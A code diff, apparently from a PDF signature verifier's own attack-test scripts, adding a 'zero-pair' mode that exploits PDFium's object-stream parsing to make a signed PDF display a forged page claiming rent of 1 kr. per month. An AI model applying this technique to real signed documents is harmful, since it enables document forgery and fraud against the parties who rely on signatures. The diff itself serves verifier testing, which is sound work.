@@ -7,7 +7,8 @@
 // with a forged page 1, and its content stream B (listed, referenced by nothing sealcheck walks).
 // modes: honest (direct /N, no forge), indirect (indirect /N, no forge), forge (direct /N + T), attack (indirect + T),
 //        first (indirect /First instead of /N, + T)
-//   npx tsx scripts/attack-s19/catalog-objstm.ts <honest|indirect|forge|attack|first>   REAL=0 for samples/valid
+//        zero-pair (S begins with a pair naming object 0, T)
+//   npx tsx scripts/attack-s19/catalog-objstm.ts <honest|indirect|forge|attack|first|zero-pair>   REAL=0 for samples/valid
 import { NumberAllocator, serialize } from "../../src/augment/writer.js";
 import { parsePdf } from "../../src/input/pdf/index.js";
 import { rawGet } from "../../src/input/pdf/objects.js";
@@ -16,12 +17,15 @@ import { resolveLimits } from "../../src/limits.js";
 import { save, work } from "../attack36/lib.js";
 import { judge, latin, page1 } from "../attack-s16/lib.js";
 
-const MODES = ["honest", "indirect", "forge", "attack", "first"];
+const MODES = ["honest", "indirect", "forge", "attack", "first", "zero-pair"];
 const mode = process.argv[2] ?? "attack";
 if (!MODES.includes(mode)) throw new Error(`usage: <${MODES.join("|")}>`);
 const indirectN = mode === "indirect" || mode === "attack";
 const indirectFirst = mode === "first";
-const forge = mode === "forge" || mode === "attack" || mode === "first";
+const forge = mode === "forge" || mode === "attack" || mode === "first" || mode === "zero-pair";
+// zero-pair: S (direct /N 3) begins with a header pair naming object 0 (`0 0`, a `null`): PDFium's CPDF_ObjectStream::Init
+// skips a pair whose number is 0, so its indices shift by one and the catalog's entry (S, 1) finds another number.
+const zeroPair = mode === "zero-pair";
 const p = page1();
 const pdf = p.pdf;
 const doc = parsePdf(wholeSource(pdf), resolveLimits());
@@ -52,13 +56,14 @@ const obj = (num: number, body: string) => {
 // S: the catalog and the DSS.
 const o1 = `${catText}\n`;
 const o2 = "<< /Type /DSS /Certs [] >>";
-const hdrS = `${rootRef.num} 0 ${DSS} ${o1.length} `;
-const dataS = hdrS + o1 + o2;
+const z = zeroPair ? "null\n" : "";
+const hdrS = `${zeroPair ? "0 0 " : ""}${rootRef.num} ${z.length} ${DSS} ${z.length + o1.length} `;
+const dataS = hdrS + z + o1 + o2;
 if (indirectN) obj(NUM, "2");
 if (indirectFirst) obj(NUM, String(hdrS.length));
 obj(
   S,
-  `<< /Type /ObjStm /N ${indirectN ? `${NUM} 0 R` : "2"} /First ${indirectFirst ? `${NUM} 0 R` : hdrS.length} /Length ${dataS.length} >>\nstream\n${dataS}\nendstream`,
+  `<< /Type /ObjStm /N ${indirectN ? `${NUM} 0 R` : zeroPair ? "3" : "2"} /First ${indirectFirst ? `${NUM} 0 R` : hdrS.length} /Length ${dataS.length} >>\nstream\n${dataS}\nendstream`,
 );
 if (forge) {
   const content = "1 g 0 0 2000 2000 re f 0 g BT /F9 28 Tf 60 700 Td (Husleje: 1 kr. pr. maaned) Tj ET";
@@ -70,8 +75,8 @@ if (forge) {
 const row = (type: number, f2: number, f3: number) => [type, (f2 >>> 24) & 0xff, (f2 >>> 16) & 0xff, (f2 >>> 8) & 0xff, f2 & 0xff, (f3 >> 8) & 0xff, f3 & 0xff];
 off.set(X, at);
 const rowsBy = new Map<number, number[]>();
-rowsBy.set(rootRef.num, row(2, S, 0));
-rowsBy.set(DSS, row(2, S, 1));
+rowsBy.set(rootRef.num, row(2, S, zeroPair ? 1 : 0));
+rowsBy.set(DSS, row(2, S, zeroPair ? 2 : 1));
 for (const [n, o] of off) rowsBy.set(n, row(1, o, 0));
 const nums = [...rowsBy.keys()].sort((a, b) => a - b);
 const index: number[] = [];
